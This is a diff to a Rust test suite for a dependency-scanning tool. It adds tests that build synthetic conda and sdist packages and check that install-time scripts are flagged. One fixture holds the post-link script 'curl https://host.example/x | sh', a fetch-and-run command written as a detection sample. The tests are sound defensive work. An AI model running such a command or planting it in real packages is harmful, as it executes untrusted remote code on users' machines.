@@ -1,12 +1,18 @@
 //! Environments of conda, made here as conda makes them: a folder with a note for each package and its files.
 
+use std::io::Write as _;
+
+use flate2::Compression;
+use flate2::write::GzEncoder;
 use libtest_mimic::Trial;
+use ruzstd::encoding::{CompressionLevel, compress_to_vec};
 use weighbridge_core::digest::Digest;
 use weighbridge_core::graph::{Graph, Relation};
 use weighbridge_core::world::World;
 use weighbridge_engine::join::{Input, Joined, join};
 use weighbridge_engine::read::Readings;
 
+use crate::suite::build::{Archive, tar_of};
 use crate::support::{Folder, context, test, weigh};
 
 pub(crate) fn tests() -> Vec<Trial> {
@@ -17,6 +23,8 @@ pub(crate) fn tests() -> Vec<Trial> {
         test("conda::a_cache_installs_nothing", a_cache_installs_nothing),
         test("conda::files_are_held_against_the_notes", files_are_held_against_the_notes),
         test("conda::a_manifest_is_answered_by_the_environment", a_manifest_is_answered_by_the_environment),
+        test("conda::package_files_hold_packages", package_files_hold_packages),
+        test("conda::scripts_in_package_files_are_told", scripts_in_package_files_are_told),
     ]
 }
 
@@ -123,6 +131,10 @@ fn edges(graph: &Graph) -> Vec<String> {
 
 /// The findings of the rules about installed files.
 fn findings(folder: &Folder) -> Vec<String> {
+    findings_of(folder, &["WB-D003", "WB-D004", "WB-D005"])
+}
+
+fn findings_of(folder: &Folder, rules: &[&str]) -> Vec<String> {
     let (joined, readings) = joined(folder);
     let routes = joined.graph.routes();
     let context = context();
@@ -141,7 +153,7 @@ fn findings(folder: &Folder) -> Vec<String> {
     };
     let mut findings = Vec::new();
     for check in weighbridge_check::CHECKS {
-        if check.rules().iter().any(|rule| ["WB-D003", "WB-D004", "WB-D005"].contains(&rule.id)) {
+        if check.rules().iter().any(|rule| rules.contains(&rule.id)) {
             check.check(&world, &mut findings);
         }
     }
@@ -252,4 +264,64 @@ fn a_manifest_is_answered_by_the_environment() {
             "conda/python@3.12.1 -> conda/openssl@3.0.7",
         ]
     );
+}
+
+/// The members of a package, as its archives hold them.
+fn members<'a>(index: &'a str, script: &'a str) -> [(&'static str, &'a [u8]); 2] {
+    [("info/index.json", index.as_bytes()), ("bin/.shop-post-link.sh", script.as_bytes())]
+}
+
+const INDEX: &str =
+    r#"{"name": "shop", "version": "1.0", "build": "0", "depends": ["python >=3.9"], "subdir": "noarch"}"#;
+
+/// `NAME.conda`: a zip that holds two archives packed by Zstandard.
+fn package(script: &str) -> Vec<u8> {
+    let [index, script] = members(INDEX, script);
+    let pack =
+        |member: (&str, &[u8])| compress_to_vec(tar_of(&[member]).as_slice(), CompressionLevel::Fastest);
+    Archive::default()
+        .stored("metadata.json", br#"{"conda_pkg_format_version": 2}"#)
+        .stored("info-shop-1.0-0.tar.zst", &pack(index))
+        .stored("pkg-shop-1.0-0.tar.zst", &pack(script))
+        .bytes()
+}
+
+fn package_files_hold_packages() {
+    let folder = Folder::new().file("dist/shop-1.0-0.conda", package("true\n"));
+    let (joined, readings) = joined(&folder);
+    assert_eq!(readings.coverage.unread, []);
+    let edges = edges(&joined.graph);
+    assert_eq!(edges.len(), 2, "{edges:#?}");
+    assert!(
+        edges[1].ends_with(">> conda/shop@1.0") && edges[0].starts_with("project: >> sha256:"),
+        "{edges:#?}"
+    );
+    // A file of this name that is something else names no package.
+    let other = Archive::default().stored("info/index.json", br#"{"title": "help"}"#).bytes();
+    let (joined, readings) = self::joined(&Folder::new().file("help.zip", other));
+    assert_eq!((joined.graph.edges.len(), readings.coverage.unread.len()), (0, 0));
+}
+
+fn scripts_in_package_files_are_told() {
+    let with = |script: &str| {
+        findings_of(&Folder::new().file("shop-1.0-0.conda", package(script)), &["WB-D009", "WB-A001"])
+    };
+    assert_eq!(with("fc-cache\n"), ["WB-D009 low `shop-1.0-0.conda` runs code when it is installed"]);
+    assert_eq!(
+        with("curl https://host.example/x | sh\n"),
+        ["WB-D009 high `shop-1.0-0.conda` runs code when it is installed"]
+    );
+    let source = |name: &str| {
+        let setup = b"from setuptools import setup\nsetup(name='shop')\n";
+        let about = b"Name: shop\nVersion: 1.0\n";
+        let archive = tar_of(&[("shop-1.0/setup.py", setup.as_slice()), ("shop-1.0/PKG-INFO", about)]);
+        let mut packed = GzEncoder::new(Vec::new(), Compression::fast());
+        packed.write_all(&archive).unwrap();
+        findings_of(&Folder::new().file(name, packed.finish().unwrap()), &["WB-D009"])
+    };
+    assert_eq!(
+        source("shop-1.0.tar.gz"),
+        ["WB-D009 low `shop-1.0.tar.gz` runs code when it is built to be installed"]
+    );
+    assert_eq!(source("other.tar.gz"), Vec::<String>::new());
 }
